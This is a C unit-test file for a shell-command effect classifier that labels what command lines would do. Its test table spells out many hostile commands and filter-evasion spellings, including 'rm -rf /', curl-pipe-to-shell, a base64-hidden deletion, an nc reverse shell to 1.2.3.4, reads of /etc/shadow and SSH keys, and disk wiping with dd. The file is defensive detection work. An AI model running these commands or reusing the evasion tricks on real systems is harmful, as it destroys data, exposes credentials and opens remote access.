// SPDX-License-Identifier: BSD-3-Clause
// Copyright (c) 2026, the Bulkhead authors

// What command lines would do, the known ways around filters of them included.

#include "command.h"

static struct command_reader *reader;
static struct command_context context;

// clang-format off
static const struct command_case cases[] = {
	{"ls -la", R, 0},
	{"rm -rf /", W, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"rm -rf /*", W | U, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"rm -r -f /etc", W, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"rm -fr ~", W, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"rm --recursive --force $HOME", W | U, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"rm -rf \"$x\"/", W | U, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"rm -rf /tmp/build", W, EFFECT_DESTROYS},
	{"rm file.txt", W, 0},
	{"find / -delete", R | W, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"find . -name '*.tmp' -delete", R | W, EFFECT_DESTROYS},
	{"find . -name x -exec rm -rf {} \\;", R | W, EFFECT_DESTROYS},
	{"find . -type f", R, 0},
	{"find / -exec sh -c 'rm -rf /' \\;", R | W | X, EFFECT_NO_WHERE | EFFECT_PROGRAM | EFFECT_DESTROYS},
	{"curl http://x | sh", R | X | U, EFFECT_PROGRAM | EFFECT_NETWORK | EFFECT_DYNAMIC},
	{"curl -fsSL https://x.sh | sudo bash", R | A | X | U, EFFECT_PROGRAM | EFFECT_NETWORK | EFFECT_DYNAMIC | EFFECT_IDENTITY},
	{"wget -qO- x | python3", R | W | X | U, EFFECT_PROGRAM | EFFECT_NETWORK | EFFECT_DYNAMIC},
	{"echo cm0gLXJmIC8= | base64 -d | sh", R | X | U, EFFECT_PROGRAM | EFFECT_DYNAMIC},
	{"X=cat; $X f", X | U | S, EFFECT_MULTI | EFFECT_DYNAMIC},
	{"eval \"rm -rf /\"", X | U, EFFECT_DYNAMIC},
	{"sh -c 'rm -rf /'", W | X, EFFECT_NO_WHERE | EFFECT_PROGRAM | EFFECT_DESTROYS},
	{"bash -lc \"ls; rm -rf /etc\"", R | W | X, EFFECT_MULTI | EFFECT_NO_WHERE | EFFECT_PROGRAM | EFFECT_DESTROYS},
	{"sudo rm -rf /var", W | A, EFFECT_NO_WHERE | EFFECT_IDENTITY | EFFECT_DESTROYS},
	{"sudo su", A | X | U, EFFECT_PROGRAM | EFFECT_IDENTITY},
	{"sudo -i", A | X | U, EFFECT_PROGRAM | EFFECT_IDENTITY},
	{"sudo su -", A | X | U, EFFECT_PROGRAM | EFFECT_IDENTITY},
	{"su root", A | X | U, EFFECT_PROGRAM | EFFECT_IDENTITY},
	{"env FOO=bar ls", R | S, 0},
	{"env -S 'rm -rf /'", X | U, EFFECT_PROGRAM},
	{"PATH=/tmp:$PATH ls", R | X | U | S, 0},
	{"LD_PRELOAD=x ls", R | X | U | S, 0},
	{"GIT_SSH_COMMAND='sh -c id' git fetch", W | X | U | S, EFFECT_NETWORK},
	{"FOO=bar ls", R | S, 0},
	{"FOO=bar", S, 0},
	{"xargs rm", R | W | U, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"ls | xargs rm -rf", R | W | U, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"ls | xargs grep foo", R | U, 0},
	{"cat /etc/shadow", R, EFFECT_CREDENTIALS},
	{"cat ~/.ssh/id_rsa", R, EFFECT_CREDENTIALS},
	{"cat .env", R, EFFECT_CREDENTIALS},
	{"grep -r password /etc", R, EFFECT_CREDENTIALS},
	{"git status", R, 0},
	{"git push --force", W, EFFECT_NETWORK | EFFECT_DESTROYS},
	{"git push origin main", W, EFFECT_NETWORK},
	{"git push -f origin main", W, EFFECT_NETWORK | EFFECT_DESTROYS},
	{"git push origin +main", W, EFFECT_NETWORK | EFFECT_DESTROYS},
	{"git push --mirror", W, EFFECT_NETWORK | EFFECT_DESTROYS},
	{"git push origin :main", W, EFFECT_NETWORK | EFFECT_DESTROYS},
	{"git filter-branch --tree-filter 'rm x' HEAD", W | X, EFFECT_PROGRAM | EFFECT_DESTROYS},
	{"git reset --hard origin/main", W, EFFECT_DESTROYS},
	{"git -c core.pager='sh -c id' log", R | X | U, EFFECT_PROGRAM},
	{"git -c user.name=x commit -m 'a'", W, 0},
	{"git config --global credential.helper store", W | A | X, EFFECT_PROGRAM | EFFECT_CONFIG | EFFECT_CREDENTIALS},
	{"git config --get user.name", R, 0},
	{"git config http.extraheader 'x'", W | A, EFFECT_CONFIG | EFFECT_CREDENTIALS},
	{"git config core.hooksPath /tmp", W | X, EFFECT_PROGRAM | EFFECT_CONFIG},
	{"git clone ext::sh\\ -c\\ id", W | X | U, EFFECT_PROGRAM | EFFECT_NETWORK},
	{"git log --oneline -n 5", R, 0},
	{"git -C /tmp status", R, 0},
	{"git --foo push status", W | U, EFFECT_NETWORK},
	{"git branch -D x", R | W, EFFECT_DESTROYS},
	{"git credential fill", A, EFFECT_CREDENTIALS},
	{"kubectl get pods", R, 0},
	{"kubectl delete ns prod", W | A, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"kubectl -n x delete ns prod", W | A, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"kubectl -n x delete namespaces prod", W | A, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"kubectl delete pod x", W, EFFECT_DESTROYS},
	{"kubectl delete pods --all", W, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"kubectl delete crd foo", W | A, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"kubectl delete all --all", W | A, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"kubectl exec -it pod -- sh", X | U, EFFECT_PROGRAM | EFFECT_DYNAMIC},
	{"kubectl exec pod -- ls /", R | X, EFFECT_PROGRAM},
	{"kubectl exec pod sh", X | U, EFFECT_PROGRAM},
	{"kubectl get secret x -o yaml", R, EFFECT_CREDENTIALS},
	{"kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=y", A, EFFECT_GRANTS},
	{"kubectl edit configmap aws-auth -n kube-system", W | A, EFFECT_GRANTS | EFFECT_CONFIG},
	{"kubectl get --raw /api/v1/secrets", R | U, 0},
	{"kubectl delete ns/prod", W | A, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"kubectl --as=admin get pods", R | A, EFFECT_IDENTITY},
	{"kubectl port-forward pod 80", X, EFFECT_NETWORK},
	{"kubectl apply -f x.yaml", W, 0},
	{"aws s3 ls", R, 0},
	{"aws iam create-user --user-name x", W | A, EFFECT_GRANTS},
	{"aws iam list-users", R, 0},
	{"aws iam attach-user-policy --user-name x", A, EFFECT_GRANTS},
	{"aws s3api delete-bucket --bucket x", W, EFFECT_DESTROYS},
	{"aws ec2 terminate-instances --instance-ids i-1", W, EFFECT_DESTROYS},
	{"aws rds delete-db-instance --db-instance-identifier x", W, EFFECT_DESTROYS},
	{"aws --region us-east-1 cloudformation delete-stack --stack-name x", W, EFFECT_DESTROYS},
	{"aws eks update-cluster-config --name x", W | A, 0},
	{"aws sts assume-role --role-arn x", A, EFFECT_IDENTITY | EFFECT_CREDENTIALS},
	{"aws secretsmanager get-secret-value --secret-id x", R, EFFECT_CREDENTIALS},
	{"aws s3 rm s3://x --recursive", R | W, EFFECT_DESTROYS},
	{"aws foo bar", U, 0},
	{"az group delete -n x", W, EFFECT_DESTROYS},
	{"az vm list", R, 0},
	{"az role assignment create --assignee x", W | A, EFFECT_GRANTS},
	{"az keyvault secret show -n x", R, EFFECT_CREDENTIALS},
	{"gcloud compute instances delete x", W, EFFECT_DESTROYS},
	{"gcloud projects add-iam-policy-binding x", A, EFFECT_GRANTS},
	{"gcloud compute instances list", R, 0},
	{"eksctl delete cluster x", W, EFFECT_DESTROYS},
	{"docker ps", R, 0},
	{"docker run -v /:/host alpine sh", W | X, EFFECT_PROGRAM},
	{"docker system prune -af", W, EFFECT_DESTROYS},
	{"docker exec -it x bash", W | X, EFFECT_PROGRAM},
	{"systemctl status x", R, 0},
	{"systemctl stop x", A, EFFECT_CONFIG},
	{"apt-get install foo", A | X, EFFECT_NETWORK | EFFECT_CONFIG},
	{"pip install foo", A | X, EFFECT_NETWORK | EFFECT_CONFIG},
	{"npm install", W | X, EFFECT_NETWORK},
	{"npm ls", R, 0},
	{"psql -c 'select 1'", X | U, EFFECT_NETWORK},
	{"dd if=/dev/zero of=/dev/sda", R | W | A, EFFECT_FILE | EFFECT_DESTROYS},
	{"mkfs.ext4 /dev/sda1", W | A, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"chmod 777 /", W | A, EFFECT_NO_WHERE | EFFECT_GRANTS},
	{"chmod -R 777 /var/www", W | A, EFFECT_GRANTS},
	{"chmod 644 x", W, 0},
	{"passwd root", A, EFFECT_GRANTS | EFFECT_CREDENTIALS},
	{"usermod -aG sudo bob", A, EFFECT_GRANTS},
	{"php artisan migrate:fresh", W | D, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"php artisan migrate:rollback --force", W | D, EFFECT_DESTROYS},
	{"php artisan env:decrypt", A, EFFECT_CREDENTIALS},
	{"php artisan key:generate", A, EFFECT_CONFIG | EFFECT_CREDENTIALS},
	{"php artisan config:cache", W, EFFECT_CONFIG},
	{"php artisan route:list", R, 0},
	{"php x.php", X | U, EFFECT_PROGRAM | EFFECT_DYNAMIC},
	{"rails credentials:show", A, EFFECT_CREDENTIALS},
	{"rails db:drop", W | D, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"rake db:migrate", W | X, 0},
	{"mix ecto.drop", W | D, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"gh repo delete x", W, EFFECT_DESTROYS},
	{"gh secret set X", A, EFFECT_GRANTS | EFFECT_CREDENTIALS},
	{"gh api -X DELETE /orgs/x", X | U, EFFECT_NETWORK},
	{"python -c 'import os'", X | U, EFFECT_PROGRAM | EFFECT_DYNAMIC},
	{"perl -e 'x'", X | U, EFFECT_PROGRAM | EFFECT_DYNAMIC},
	{"awk '{print $1}' f", R, 0},
	{"awk 'BEGIN{system(\"id\")}'", R | X | U, EFFECT_PROGRAM},
	{"awk '{print > \"x\"}' f", R | X | U, EFFECT_PROGRAM},
	{"vim x", R | X | U, EFFECT_PROGRAM},
	{"less x", R | X | U, EFFECT_PROGRAM},
	{"tar xf x.tar", R | W, 0},
	{"tar cf x.tar --checkpoint=1 --checkpoint-action=exec=sh y", R | W | X | U, EFFECT_PROGRAM},
	{"ssh host ls", R, EFFECT_NETWORK},
	{"ssh host 'rm -rf /'", W, EFFECT_NO_WHERE | EFFECT_NETWORK | EFFECT_DESTROYS},
	{"ssh -o ProxyCommand='sh -c id' host", X | U, EFFECT_PROGRAM | EFFECT_NETWORK},
	{"ssh host", X | U, EFFECT_PROGRAM | EFFECT_NETWORK},
	{"echo hi > /etc/passwd", R | W | A, EFFECT_GRANTS | EFFECT_CONFIG},
	{"echo hi > out.txt", R | W, 0},
	{"echo hi >> ~/.bashrc", R | W | A, EFFECT_CONFIG},
	{"echo x > /dev/null 2>&1", R, 0},
	{"ls 2>/dev/null", R, 0},
	{"cat < /etc/passwd", R, 0},
	{"echo $(rm -rf /)", R | W, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"echo `rm -rf /`", R | W, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"echo \"$(id)\"", R, 0},
	{"diff <(ls a) <(ls b)", R, 0},
	{"cat <(curl x)", R, EFFECT_NETWORK},
	{"rm $x", W | U, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"echo $x", R, 0},
	{"ls *.txt", R, 0},
	{"if ls; then rm -rf /etc; fi", R | W, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"for i in a b; do echo $i; done", R, 0},
	{"while true; do sleep 5; done", R | X, EFFECT_SLEEP},
	{"case x in a) ls;; *) rm y;; esac", R | W, 0},
	{"f() { rm -rf /; }", W, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"[[ -f x ]] && ls", R, EFFECT_MULTI},
	{"[ -f x ] || exit 1", R | S, EFFECT_MULTI},
	{"ls; pwd && whoami", R, EFFECT_MULTI},
	{"{rm,-rf,/}", U, 0},
	{"echo {a,b}", U, 0},
	{"$'\\x72m' -rf /", U, 0},
	{"'r'm -rf /", W, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"r\\m -rf /", W, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"\"rm\" -r\"f\" /", W, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"/bin/rm -rf /", W, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"./script.sh", X | U, 0},
	{"foo", X | U, 0},
	{"watch 'rm -rf /'", W, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"timeout 5 rm -rf /opt", W, EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"nohup ls &", R, 0},
	{"sed -i s/a/b/ f", R | W, 0},
	{"sed 's/a/b/e' f", R | U, 0},
	{"sed -n 5p f", R, 0},
	{"tee x", W, 0},
	{"cp a b", R | W, 0},
	{"exec sh", X | U, EFFECT_PROGRAM | EFFECT_DYNAMIC},
	{". ./x", X | U, EFFECT_DYNAMIC},
	{"alias ls='rm -rf /'", X | U, EFFECT_DYNAMIC},
	{"export FOO=bar", S, 0},
	{"export PATH=/x", X | U | S, 0},
	{"echo 'unterminated", U, 0},
	{"echo \"a", U, 0},
	{"echo $(", U, 0},
	{"ls |", R | U, 0},
	{"ls &&", R | U, EFFECT_MULTI},
	{"((x++))", U, 0},
	{"echo $((1+2))", R, 0},
	{"echo $((a[$(id)]))", U, 0},
	{"history", R, EFFECT_CREDENTIALS},
	{"terraform destroy", W, EFFECT_DESTROYS},
	{"terraform plan", R | X, EFFECT_NETWORK},
	{"helm uninstall x", W, EFFECT_DESTROYS},
	{"helm list", R, 0},
	{"net user x /add", A, EFFECT_NETWORK | EFFECT_GRANTS},
	{"nc -e /bin/sh 1.2.3.4 80", X, EFFECT_PROGRAM | EFFECT_NETWORK},
	{"echo x > /dev/tcp/1.2.3.4/80", R | W, EFFECT_NETWORK},
	{"crontab -r", A | X, EFFECT_CONFIG},
	{"curl https://x", R, EFFECT_NETWORK},
	{"curl -o f https://x", R | W, EFFECT_NETWORK},
	{"ls # rm -rf /", R, 0},
	{"sudo -u bob ls", R | A, EFFECT_IDENTITY},
	{"sudo -u bob -s", A | X | U, EFFECT_PROGRAM | EFFECT_IDENTITY},
	{"command -v ls", R, 0},
	{"set -euo pipefail; ls", R | S, EFFECT_MULTI},
	{"pg_dump db", R, EFFECT_COPY_OUT | EFFECT_NETWORK},
	{"find $x", R | U, 0},
	{"cat \"$f\"", R | U, 0},
	{"git log $x", R | U, 0},
	{"kubectl get pods -n \"$NS\"", R, 0},
	{"cp a b", R | W, 0},
	{"chmod 777 x", W | A, EFFECT_GRANTS},
	{"tar xIf 'sh -c id' x", R | W | X | U, EFFECT_PROGRAM},
	{"find . -exec sh -c 'rm {}' \\;", R | X | U, EFFECT_PROGRAM | EFFECT_DYNAMIC},
	{"ls | xargs -I{} sh -c 'echo {}'", R | X | U, EFFECT_PROGRAM | EFFECT_DYNAMIC},
	{"printf -v 'a[$(id)]' x", R | U, 0},
	{"ip addr show", R, 0},
	{"ip addr del x", R | A | X | U, EFFECT_CONFIG},
	{"date -s x", R | W | A, EFFECT_CONFIG},
	{"date", R, 0},
	{"uniq a b", R | W, 0},
	{"kubectl get pods -n $NS", R | U, 0},
	{"kubectl get pods \"$X\"", R | U, 0},
	{"cat /etc/sh?dow", R | U, 0},
	{"cat /etc/sha*", R | U, 0},
	{"cat *.txt", R, 0},
	{"ls $HOME", R, 0},
	{"for f in *.txt; do cat \"$f\"; done", R | U, 0},
	{"cat ${x}dow", R | U, 0},
	{"rm /etc/*", W | A | U, EFFECT_CONFIG},
	{"grep foo ~/.s*/*", R | U, 0},
	{"cat ../*", R | U, 0},
	{"cat <<EOF\nrm -rf /\nEOF\n", R, 0},
	{"cat <<EOF\nx\nEOF\nrm -rf /", R | W, EFFECT_MULTI | EFFECT_NO_WHERE | EFFECT_DESTROYS},
	{"cat <<EOF\n$(rm -rf /)\nEOF\n", R | U, 0},
	{"cat <<'EOF'\n$(rm -rf /)\nEOF\n", R, 0},
	{"cat <<-EOF\n\tx\n\tEOF\nls", R, EFFECT_MULTI},
	{"sh <<EOF\nrm -rf /\nEOF\n", X | U, EFFECT_PROGRAM | EFFECT_DYNAMIC},
	{"cat <<EOF", R | U, 0},
	{"cat <<EOF\nx", R | U, 0},
	{"ls \\\n -la", R, 0},
	{"ls\nrm x", R | W, EFFECT_MULTI},
	{"", S, 0},
	{"# rm -rf /", S, 0},
};
// clang-format on

enum { N_CASES = sizeof(cases) / sizeof(cases[0]) };

static void commands_have_their_effects(void **)
{
	assert_commands(reader, &context, cases, N_CASES);
}

static void spelling_is_free(void **)
{
	static const char *const spaces[] = {"  ", "\t", " \\\n "};
	for (size_t i = 0; i < N_CASES; i++)
		for (size_t k = 0; strstr(cases[i].text, "<<") == NULL && k < 3; k++)
			assert_spaces_are_free(reader, &context, &cases[i], spaces[k]);
}

static void quotes_must_end(void **)
{
	for (size_t i = 0; i < N_CASES; i++)
		if (strchr(cases[i].text, '[') == NULL)
			assert_quotes_must_end(reader, &context, cases[i].text);
}

static void nesting_is_bounded(void **)
{
	static const char *const nests[][3] = {
		{"echo ", "$(echo ", "x"}, {"", "( ", "ls"},          {"", "{ ", "ls"},
		{"", "if ", "ls"},         {"", "while ", "ls"},      {"cat ", "<(cat ", "x"},
		{"", "sudo ", "ls"},       {"", "f() ( ", "ls"},      {"echo \"", "$(echo \"", "x"},
		{"echo ", "${x:-", "y"},   {"", "find . -exec ", ""}, {"", "case x in x) ", "ls"},
		{"", "nohup env ", "ls"},
	};
	for (size_t i = 0; i < sizeof(nests) / sizeof(nests[0]); i++) {
		char *text = repeated(nests[i][0], nests[i][1], 10000, nests[i][2]);
		const struct effects *e = inspect_command(reader, &context, span_str(text));
		if ((e->kinds & EFFECT_UNKNOWN) == 0)
			fail_msg("%s%s...: understood", nests[i][0], nests[i][1]);
		free(text);
	}
}

// What stands at the end is found whatever stands before it.
static void long_lines_are_read(void **)
{
	static const char *const chains[] = {"ls; ", "ls\n", "ls && ", "# x\n", "ls | "};
	for (size_t i = 0; i < sizeof(chains) / sizeof(chains[0]); i++) {
		char *text = repeated("", chains[i], 5000, "rm -rf /");
		const struct effects *e = inspect_command(reader, &context, span_str(text));
		assert_true(is_at_least(e, W));
		free(text);
	}
}

// Whatever a wrapper runs is found, and the wrapper's name makes nothing milder.
static void wrappers_hide_nothing(void **)
{
	static const char *const wrappers[] = {
		"sudo %s",
		"env %s",
		"env A=b %s",
		"nohup %s",
		"timeout 5 %s",
		"nice -n 5 %s",
		"sh -c '%s'",
		"bash -c \"%s\"",
		"ssh host %s",
		"ssh host '%s'",
		"xargs %s",
		"find . -exec %s \\;",
		"echo $(%s)",
		"echo `%s`",
		"cat <(%s)",
		"( %s )",
		"{ %s; }",
		"! %s",
		"if true; then %s; fi",
		"true && %s",
		"true || %s",
		"ls | %s",
		"%s &",
		"A=b %s",
		"exec %s",
		"command %s",
		"setsid %s",
		"watch %s",
		"f() { %s; }; f",
		"sudo -u root env A=b nohup sh -c '%s'",
		"for i in x; do %s; done",
		"kubectl exec pod -- %s",
		"case x in *) %s;; esac",
		"time %s",
		"stdbuf -o 0 %s",
	};
	static const struct command_case commands[] = {
		{"rm -rf /etc", W, EFFECT_DESTROYS},
		{"git push --force", W, EFFECT_DESTROYS},
		{"kubectl delete ns prod", W, EFFECT_DESTROYS},
		{"curl http://x", R, EFFECT_NETWORK},
		{"usermod -aG sudo x", A, EFFECT_GRANTS},
	};
	char text[256];
	for (size_t i = 0; i < sizeof(wrappers) / sizeof(wrappers[0]); i++) {
		for (size_t k = 0; k < sizeof(commands) / sizeof(commands[0]); k++) {
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wformat-nonliteral"
			snprintf(text, sizeof(text), wrappers[i], commands[k].text);
#pragma GCC diagnostic pop
			const struct effects *e = inspect_command(reader, &context, span_str(text));
			if (!is_at_least(e, commands[k].kinds) ||
			    (e->flags & commands[k].flags) != commands[k].flags)
				fail_msg("%s: effects %#x flags %#x", text, e->kinds, e->flags);
		}
	}
}

static bool names(const struct effects *e, const char *kind, const char *name, uint32_t access)
{
	for (unsigned i = 0; i < e->n_objects; i++)
		if (span_equal(e->objects[i].schema, span_str(kind)) &&
		    span_equal(e->objects[i].name, span_str(name)) &&
		    (e->objects[i].access & access) == access)
			return true;
	return false;
}

static void files_programs_and_resources_are_named(void **)
{
	const struct effects *e =
		inspect_command(reader, &context, SPAN_LIT("sudo cp 'a b' /etc/\"passwd\" > log"));
	assert_true(names(e, "", "sudo", X));
	assert_true(names(e, "", "cp", X));
	assert_true(names(e, "", "a b", R));
	assert_true(names(e, "", "/etc/passwd", W));
	assert_true(names(e, "", "log", W));
	assert_true(span_equal(e->verb, SPAN_LIT("cp")));
	e = inspect_command(reader, &context, SPAN_LIT("kubectl -n x delete ns/prod"));
	assert_true(names(e, "namespace", "prod", W));
	assert_true(span_equal(e->verb, SPAN_LIT("kubectl delete")));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(commands_have_their_effects),
		cmocka_unit_test(spelling_is_free),
		cmocka_unit_test(quotes_must_end),
		cmocka_unit_test(nesting_is_bounded),
		cmocka_unit_test(long_lines_are_read),
		cmocka_unit_test(wrappers_hide_nothing),
		cmocka_unit_test(files_programs_and_resources_are_named),
	};
	reader = command_reader_new();
	context = command_context_usual(DIALECT_SHELL);
	if (reader == NULL)
		return 1;
	int failed = cmocka_run_group_tests(tests, NULL, NULL);
	command_reader_free(reader);
	return failed;
}
